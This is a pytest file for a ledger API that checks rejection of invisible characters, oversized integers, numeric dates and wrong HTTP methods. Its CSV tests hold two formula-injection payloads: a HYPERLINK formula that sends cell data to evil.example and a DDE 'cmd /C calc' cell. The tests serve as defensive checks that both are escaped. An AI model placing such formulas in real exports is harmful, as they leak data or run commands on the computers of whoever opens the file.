"""Hostile input over HTTP, as a client with a token of a role would send it: invisible and
reordering characters in text, a formula where a spreadsheet will open the export, integers too
large for any position, numbers where the schema says a date, and a method the path lacks. Each is
refused with 422 (or 405) naming what is wrong, changes nothing, or is neutralised."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.services import Services
from ledger.domain import text as text_rule
from tests.api_fixtures import auth, caught_up, open_services
from tests.helpers import stocked_product

SKU = "GAME-1"
BIG = "9" * 31


@dataclass
class World:
    client: TestClient
    svc: Services
    orders: int = 0

    def head(self) -> int:
        return self.svc.ledger.app.recorder.max_notification_id() or 0

    def order(self, **fields: Any) -> Any:
        """An order from a device and address of its own (the per-IP and per-device caps stay out of it)."""
        self.orders += 1
        body = {"customer_id": "someone", "sku": SKU, "quantity": 1, "client_ip": f"198.51.100.{self.orders}",
                "device_id": f"device-{self.orders}", **fields}
        return self.client.post("/v1/orders", json=body, headers=auth("storefront"))


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    tmp = tmp_path_factory.mktemp("hostile")
    svc = open_services(f"sqlite:///{tmp / 'ledger.sqlite'}", tmp, read_wait_s=2.0)
    stocked_product(svc.ledger, sku=SKU, keys=20, per_customer_limit=1)
    with TestClient(create_app(svc, background=True), raise_server_exceptions=False) as client:
        yield World(client, svc)
    svc.close()


def field_of(response: Any) -> set[str]:
    return {e["field"] for e in response.json()["errors"]}


# ---- text: one customer is one customer ----

@pytest.mark.parametrize("invisible", ["\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u202e", "\u2066",
                                       "\u200f", "\x00", "\x1b", "\u0085", "\u2028", "\U000e0041"])
def test_an_invisible_or_reordering_character_is_refused_naming_the_field(world: World, invisible: str) -> None:
    """`alice` holds the one unit she may buy; `alice` with an invisible character is not a
    second customer with a limit of her own: the order is refused, and nothing is written."""
    alice = f"alice-{ord(invisible)}"
    assert world.order(customer_id=alice).status_code == 201
    before = world.head()
    response = world.order(customer_id=f"{alice}{invisible}")
    assert response.status_code == 422, response.text
    assert field_of(response) == {"customer_id"}
    assert f"U+{ord(invisible):04X}" in response.json()["detail"]
    for field in ("channel", "device_id", "client_ip"):
        refused = world.order(customer_id=f"bob-{ord(invisible)}", **{field: f"web{invisible}shop"})
        assert refused.status_code == 422 and field_of(refused) == {field}, refused.text
    assert world.head() == before


def test_two_spellings_of_one_name_are_one_customer(world: World) -> None:
    """`Zoë` typed precomposed or as `o` and a combining diaeresis is NFC-normalised: the same
    customer, whose per-customer limit (1) the second order reaches."""
    first = world.order(customer_id="Zo\u00eb")
    assert first.status_code == 201, first.text
    second = world.order(customer_id="Zoe\u0308")
    assert second.status_code == 409, second.text
    assert second.json()["type"].endswith("/purchase-limit-reached")


def test_text_in_other_bodies_and_in_queries_keeps_the_rule(world: World) -> None:
    made = world.client.post("/v1/products", headers=auth("admin"), json={
        "sku": "GAME-2", "name": "Game\u202e2", "face_value": "10.00", "currency": "USD", "price": "9.00"})
    assert made.status_code == 422 and field_of(made) == {"name"}
    search = world.client.get("/v1/support/orders", params={"customer_id": "alice\u200b"},
                              headers=auth("support"))
    assert search.status_code == 422 and field_of(search) == {"query.customer_id"}, search.text


def test_the_schema_states_the_rule() -> None:
    spec = create_app().openapi()
    order = spec["components"]["schemas"]["OrderIn"]["properties"]["customer_id"]
    assert order["pattern"] == text_rule.PATTERN and order["maxLength"] == 200


# ---- CSV: a formula is shown, never run ----

def test_a_formula_in_a_channel_is_neutralised_in_the_csv_export(world: World) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    placed = world.order(customer_id="mallory", channel=formula)
    assert placed.status_code == 201, placed.text
    order = placed.json()
    ledger = world.svc.ledger
    ledger.capture_payment(ledger.context("psp"), UUID(order["order_id"]), payment_reference="csv-pay",
                           amount=order["amount_due"], provider="psp")
    position = caught_up(world.svc)
    exported = world.client.get("/v1/reports/sales", params={"group_by": "channel", "min_position": position},
                                headers={**auth("finance"), "Accept": "text/csv"})
    assert exported.status_code == 200, exported.text
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    cells = [cell for row in rows for cell in row.values()]
    assert "'" + formula in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# ---- integers: a position too large for any store is 422, not 500 ----

@pytest.mark.parametrize(("role", "path", "field"), [
    ("risk", f"/v1/fraud/alerts?since={BIG}", "query.since"),
    ("analyst", f"/v1/audit/events?after={BIG}", "query.after"),
    ("finance", f"/v1/ledger/accounts/revenue?after={BIG}", "query.after"),
    ("finance", f"/v1/audit/proofs/inclusion?position={BIG}", "query.position"),
    ("finance", f"/v1/audit/proofs/inclusion?position=1&tree_size={BIG}", "query.tree_size"),
    ("finance", f"/v1/audit/proofs/consistency?first={BIG}", "query.first"),
    ("finance", f"/v1/audit/proofs/consistency?first=1&second={BIG}", "query.second"),
    ("storefront", f"/v1/inventory?min_position={BIG}", "query.min_position"),
    ("finance", f"/v1/ledger/trial-balance?as_of={BIG}", "query.as_of"),
])
def test_a_31_digit_integer_is_refused_naming_the_parameter(world: World, role: str, path: str, field: str) -> None:
    response = world.client.get(path, headers=auth(role))
    assert response.status_code == 422, response.text
    assert field_of(response) == {field}


# ---- dates: as the schema says, not a number ----

@pytest.mark.parametrize(("path", "field"), [
    ("/v1/ledger/trial-balance?as_of_time=0.5", "query.as_of_time"),
    ("/v1/ledger/trial-balance?as_of_time=1700000000", "query.as_of_time"),
    ("/v1/reports/sales?to=0.5", "query.to"),
    ("/v1/reports/sales?from=20000", "query.from"),
])
def test_a_number_is_not_a_date(world: World, path: str, field: str) -> None:
    response = world.client.get(path, headers=auth("finance"))
    assert response.status_code == 422, response.text
    assert field_of(response) == {field}


def test_dates_as_the_schema_says_are_taken(world: World) -> None:
    for path in ("/v1/ledger/trial-balance?as_of_time=2026-03-31T23:59:59Z",
                 "/v1/ledger/trial-balance?as_of_time=2026-03-31T23:59:59",
                 "/v1/reports/sales?from=2026-03-01&to=2026-03-31"):
        assert world.client.get(path, headers=auth("finance")).status_code == 200, path


def test_a_number_is_not_a_date_time_in_a_body(world: World) -> None:
    response = world.client.post("/v1/promotions", headers=auth("admin"), json={
        "type": "flash_sale", "sale_id": "numbers", "sku": SKU, "starts_at": 1700000000,
        "ends_at": "2030-01-01T00:00:00Z", "price": "5.00", "total_quantity": 1})
    assert response.status_code == 422, response.text
    assert field_of(response) == {"flash_sale.starts_at"}


# ---- 405: every method of the path ----

@pytest.mark.parametrize(("method", "path", "allowed"), [
    ("OPTIONS", "/v1/products", "GET, POST"),
    ("DELETE", "/v1/products", "GET, POST"),
    ("PUT", "/v1/inventory", "GET"),
])
def test_405_names_every_method_of_the_path(world: World, method: str, path: str, allowed: str) -> None:
    response = world.client.request(method, path, headers=auth("admin"))
    assert response.status_code == 405
    assert response.headers["allow"] == allowed
    assert response.json()["status"] == 405


def test_write_csv_neutralises_formulas(tmp_path: Path) -> None:
    """`ledger replay --out` writes its report through the same cell rule."""
    from projections.engine.replay import write_csv

    out = tmp_path / "report.csv"
    write_csv([{"channel": "@SUM(A1:A9)", "amount": "-3.50", "note": "-1+cmd|' /C calc'!A0"}], out)
    (row,) = list(csv.DictReader(out.open()))
    assert row == {"channel": "'@SUM(A1:A9)", "amount": "-3.50", "note": "'-1+cmd|' /C calc'!A0"}
